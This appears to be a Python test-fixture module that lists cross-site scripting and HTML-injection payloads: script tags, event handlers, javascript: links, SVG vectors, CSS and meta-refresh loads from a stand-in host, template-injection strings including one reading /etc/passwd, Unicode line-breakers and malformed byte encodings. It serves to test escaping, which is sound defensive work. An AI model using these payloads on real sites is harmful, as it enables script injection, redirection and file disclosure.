"""What a portal that means harm would write: texts that do something where they are not escaped.

Whatever runs calls `harm()`, which the tests listen for; whatever loads asks `ELSEWHERE`.
"""

ELSEWHERE = "http://elsewhere.invalid"

_RUNNING = (
    "<script>harm()</script>",
    "<ScRiPt >harm()</sCrIpT>",
    f"<script src={ELSEWHERE}/x.js></script>",
    "</title><script>harm()</script>",
    "</textarea><script>harm()</script>",
    "--><script>harm()</script><!--",
    "]]><script>harm()</script>",
    '"><script>harm()</script>',
    "'><script>harm()</script>",
    "<script>/*</script><script>harm()//*/</script>",
    "<script type=module>harm()</script>",
    "<scr<script>ipt>harm()</scr</script>ipt>",
    "%3Cscript%3Eharm()%3C/script%3E",
    "&lt;script&gt;harm()&lt;/script&gt;",
    "&#60;script&#62;harm()&#60;/script&#62;",
    "<noscript><p title='</noscript><img src=x onerror=harm()>'>",
    "{{ harm() }}",
    "{% include '/etc/passwd' %}",
    "${harm()}",
    "<%= harm() %>",
)
_HANDLERS = (
    "<img src=x onerror=harm()>",
    '<img src="x" OnErRoR="harm()">',
    "<img/src=x/onerror=harm()>",
    "<body onload=harm()>",
    "<input autofocus onfocus=harm()>",
    "<select autofocus onfocus=harm()></select>",
    "<details open ontoggle=harm()><summary>x</summary></details>",
    "<video><source onerror=harm()></video>",
    "<audio src=x onerror=harm()></audio>",
    "<marquee onstart=harm()>x</marquee>",
    '" onmouseover="harm()" style="position:fixed;inset:0" x="',
    "' autofocus onfocus='harm()' x='",
    "<div onpointerover=harm() style=position:fixed;inset:0>x</div>",
    "<style onload=harm()></style>",
)
_ADDRESSES = (
    '<a href="javascript:harm()">x</a>',
    '<a href="java&#09;script:harm()">x</a>',
    '<a href="JaVaScRiPt:harm()" autofocus>x</a>',
    "javascript:harm()",
    "data:text/html,<script>harm()</script>",
    '<a href="vbscript:harm()">x</a>',
    f'<a ping="{ELSEWHERE}/ping" href="#">x</a>',
)
_DRAWINGS = (
    "<svg onload=harm()></svg>",
    "<svg><script>harm()</script></svg>",
    "<svg><animate onbegin=harm() attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=harm()>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.harm()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=harm()></style></mglyph></table></math>",
    f"<svg><image href={ELSEWHERE}/x.png></svg>",
)
_STYLES = (
    f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<style>body{{background:url({ELSEWHERE}/x.png)}}</style>",
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">',
    f'<div style="background:url({ELSEWHERE}/x.png)">x</div>',
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;background:#000;z-index:9999'>x</div>",
    f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/x.woff)}}*{{font-family:x}}</style>",
)
_LEADING_AWAY = (
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/">',
    '<meta http-equiv="refresh" content="0;url=javascript:harm()">',
    f'<base href="{ELSEWHERE}/">',
    f'<form action="{ELSEWHERE}/"><button autofocus>x</button></form>',
    "<form action=javascript:harm()><input type=submit></form>",
    '</form><form action="//elsewhere.invalid"><input name=q>',
    f'<iframe src="{ELSEWHERE}/"></iframe>',
    "<iframe srcdoc='<script>parent.harm()</script>'></iframe>",
    "<object data='data:text/html,<script>parent.harm()</script>'></object>",
    f"<embed src='{ELSEWHERE}/x.swf'>",
    f'<link rel="prefetch" href="{ELSEWHERE}/x">',
    f'<link rel="dns-prefetch" href="{ELSEWHERE}/">',
    f"<img src={ELSEWHERE}/x.png>",
    f'<img srcset="{ELSEWHERE}/x.png 1x">',
    f'<video poster="{ELSEWHERE}/x.png" src="{ELSEWHERE}/x.mp4" autoplay></video>',
    f'<table background="{ELSEWHERE}/x.png"><tr><td>x</td></tr></table>',
    f"<frameset><frame src='{ELSEWHERE}/'></frameset>",
    f'<portal src="{ELSEWHERE}/"></portal>',
)
LETTERS = (
    "\u202egnp.cod\u202c",
    "\u2066\u2067\u202e" * 20 + "txt",
    "办法\u202e法办\u2069\u2069\u2069",
    "\u200f\u200f" + "مرحبا" * 30,
    "e" + "\u0301" * 300,
    "Z̸̢̛̪͖̼̳̰̖͎̮͎̰̜̲̦̾̈́̋̀͛̽͂̾͊̿̚͠͝ͅa̶l̴g̵o̷" * 20,
    "\ufeff\u200b\u200c\u200d办法",
    "\ud7ff\ufdd0\U0001f595\U000e0041",
    "W" * 4000,
    "永" * 4000,
    "a\u00a0b" * 800,
    "﷽" * 200,
    "/" + "x/" * 1500,
    "-" * 3000,
)
"""Texts without any markup that break the lines of a page, or turn them around."""
PAYLOADS = _RUNNING + _HANDLERS + _ADDRESSES + _DRAWINGS + _STYLES + _LEADING_AWAY + LETTERS
"""All of them."""

MALFORMED = (
    b"\xff\xfe\xfd<script>harm()</script>",
    b"\xc0\xbcscript\xc0\xbeharm()\xc0\xbc/script\xc0\xbe",
    b"\xe5\xb8<img src=x onerror=harm()>",
    b"\xed\xa0\x80\xed\xb0\x80 onload=harm()",
    b"\xf8\x88\x80\x80\x80<svg onload=harm()>",
    b"+ADw-script+AD4-harm()+ADw-/script+AD4-",
    b"\x1b$B<script>harm()</script>\x1b(B",
    b"\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>harm()",
)
"""Bytes that are no UTF-8, which a page has where its text should be."""
